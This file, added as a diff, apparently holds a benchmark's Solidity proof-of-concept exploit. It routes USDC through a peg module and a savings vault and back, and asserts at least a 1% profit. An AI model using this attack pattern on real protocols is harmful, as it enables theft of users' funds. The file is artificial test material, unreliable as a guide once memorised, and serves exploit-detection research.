@@ -1,0 +1,43 @@
+// SPDX-License-Identifier: AGPL-3.0-only
+pragma solidity 0.8.30;
+
+// assay-canary-19c91a33-13db-4307-8ceb-653928c9b402
+import "../Base.sol";
+
+contract Attacker {
+    function run(IERC20 usdc, PegModule peg, Savings savings) external {
+        IERC20 dollar = IERC20(address(peg.dollar()));
+        usdc.approve(address(peg), type(uint256).max);
+        dollar.approve(address(savings), type(uint256).max);
+        uint256 amount = peg.swap_in(usdc.balanceOf(address(this)), address(this));
+        uint256 shares = savings.deposit(amount, address(this));
+        savings.withdraw(shares, address(this));
+        peg.swap_out(dollar.balanceOf(address(this)) * 1000 / 1001 / 1e12, address(this));
+    }
+}
+
+contract Proof is Base {
+    Attacker private other;
+
+    function start() internal override {
+        other = new Attacker();
+        usdc.mint(address(other), 300_000e6);
+    }
+
+    function exploit() public {
+        other.run(usdc, peg, savings);
+    }
+
+    function test_Exploit() public {
+        exploit();
+        require(usdc.balanceOf(address(other)) >= 303_000e6, "no gain");
+    }
+
+    function target() public view override returns (address) {
+        return address(savings);
+    }
+
+    function attacker() public view returns (address) {
+        return address(other);
+    }
+}
